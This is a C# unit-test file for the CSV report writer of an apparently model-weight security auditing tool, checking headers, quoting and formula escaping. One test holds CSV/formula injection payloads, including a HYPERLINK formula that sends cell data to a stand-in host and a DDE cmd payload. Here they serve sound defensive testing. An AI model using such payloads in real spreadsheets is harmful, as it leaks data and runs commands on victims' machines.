using System.Text;
using WeightGuard.Core.Catalog;
using WeightGuard.Core.Evaluation;
using WeightGuard.Core.Evidence;
using WeightGuard.Core.Reports;

namespace WeightGuard.Reporting.Tests;

public class CsvReportWriterTests
{
    private static Report Report(string hostname, params ControlResult[] results) => new()
    {
        ReportId = Guid.Parse("6c1e8f52-3b0a-4a37-9a55-1b7c58a2d0f1"),
        Host = new HostIdentity { Hostname = hostname, MachineId = "m1", Os = "Linux", Kernel = "6.1", Arch = "x64", Platform = "linux" },
        Agent = new AgentInfo("0.1.0"),
        StartedAt = DateTimeOffset.UnixEpoch,
        FinishedAt = new DateTimeOffset(2026, 3, 1, 12, 0, 0, TimeSpan.Zero),
        Profile = new ProfileInfo("rand-sl1", "RAND SL1", "sha256:" + new string('0', 64)),
        Evidence = new Evidence { Host = new HostIdentity { Hostname = "h", Os = "o", Kernel = "k", Arch = "a", Platform = "linux" } },
        Results = results,
        Summary = new Summary { Pass = 0, Fail = 1, Error = 0, NotApplicable = 0, Waived = 0, Manual = 0, Attested = 0, Rand = new RandStanding("SL0", "SL0", 0) },
    };

    private static ControlResult Result(string id, string title, string message, string? remediation = null, ControlStatus status = ControlStatus.Fail) => new()
    {
        ControlId = id, Title = title, Status = status, Severity = Severity.High, Message = message, Evidence = [],
        References = new SortedDictionary<string, IReadOnlyList<string>>(StringComparer.Ordinal) { ["dsit"] = ["5.4.2"], ["rand"] = ["SL1", "SL2"] },
        Remediation = remediation,
        Waiver = status == ControlStatus.Waived ? new WaiverNote("ciso@example.com", "until Q3", new DateOnly(2026, 9, 30), false) : null,
    };

    private static string Csv(params Report[] reports)
    {
        using var stream = new MemoryStream();
        new CsvReportWriter().WriteAll(reports, stream);
        return Encoding.UTF8.GetString(stream.ToArray());
    }

    /// <summary>An RFC 4180 reader, to read back what the writer wrote.</summary>
    private static List<List<string>> Parse(string csv)
    {
        var rows = new List<List<string>>();
        var row = new List<string>();
        var cell = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < csv.Length; i++)
        {
            var c = csv[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < csv.Length && csv[i + 1] == '"') { cell.Append('"'); i++; }
                else if (c == '"') quoted = false;
                else cell.Append(c);
            }
            else if (c == '"') quoted = true;
            else if (c == ',') { row.Add(cell.ToString()); cell.Clear(); }
            else if (c == '\r' && csv[i + 1] == '\n') { row.Add(cell.ToString()); cell.Clear(); rows.Add(row); row = []; i++; }
            else cell.Append(c);
        }
        Assert.That(quoted, Is.False, "unterminated quoted field");
        Assert.That(row, Is.Empty, "the last row must end with CRLF");
        return rows;
    }

    [Test]
    public void OneHeaderThenOneRowPerControlOfEveryReport()
    {
        var rows = Parse(Csv(Report("gpu-01", Result("WG-ACL-001", "No world access", "ok", status: ControlStatus.Pass)),
            Report("gpu-02", Result("WG-ACL-001", "No world access", "world-readable", "chmod o-r"), Result("WG-PLAT-001", "IOMMU", "off", "enable it", ControlStatus.Waived))));

        Assert.That(rows, Has.Count.EqualTo(4));
        Assert.That(rows[0], Is.EqualTo(new[] { "hostname", "machine_id", "report_id", "finished_at", "profile", "control_id", "title", "status", "severity",
            "message", "references", "remediation", "waiver_approver", "waiver_expires", "attested_by", "attestation_expires",
            "rand_host_controls_met", "rand_attested", "guidance" }));
        Assert.That(rows[2], Is.EqualTo(new[] { "gpu-02", "m1", "6c1e8f52-3b0a-4a37-9a55-1b7c58a2d0f1", "2026-03-01T12:00:00Z", "rand-sl1", "WG-ACL-001",
            "No world access", "fail", "high", "world-readable", "dsit:5.4.2; rand:SL1; rand:SL2", "chmod o-r", "", "", "", "", "SL0", "SL0", "" }));
        Assert.That(rows[3][7..], Is.EqualTo(new[] { "waived", "high", "off", "dsit:5.4.2; rand:SL1; rand:SL2", "enable it", "ciso@example.com", "2026-09-30",
            "", "", "SL0", "SL0", "" }));
    }

    [TestCase("=HYPERLINK(\"http://evil.example/\"&A1)")]
    [TestCase("+1+cmd|' /C calc'!A0")]
    [TestCase("-2+3")]
    [TestCase("@SUM(A1:A9)")]
    [TestCase("\tleading tab")]
    public void CellsASpreadsheetWouldRunAsFormulasStayText(string hostile)
    {
        var rows = Parse(Csv(Report(hostile, Result("WG-ACL-001", hostile, hostile, hostile))));
        Assert.That(rows[1][0], Is.EqualTo("'" + hostile));
        Assert.That(rows[1][6], Is.EqualTo("'" + hostile));
        Assert.That(rows[1][9], Is.EqualTo("'" + hostile));
        Assert.That(rows[1][11], Is.EqualTo("'" + hostile));
    }

    [Test]
    public void CommasQuotesAndLineBreaksAreQuotedAndReadBackIntact()
    {
        const string message = "/models/a,b.gguf is \"world\"-readable\r\nand\nmore";
        var csv = Csv(Report("gpu-01", Result("WG-ACL-001", "title, with comma", message)));
        var rows = Parse(csv);

        Assert.That(rows[1][6], Is.EqualTo("title, with comma"));
        Assert.That(rows[1][9], Is.EqualTo(message));
        Assert.That(csv, Does.Contain("\"/models/a,b.gguf is \"\"world\"\"-readable\r\nand\nmore\""));
    }
}
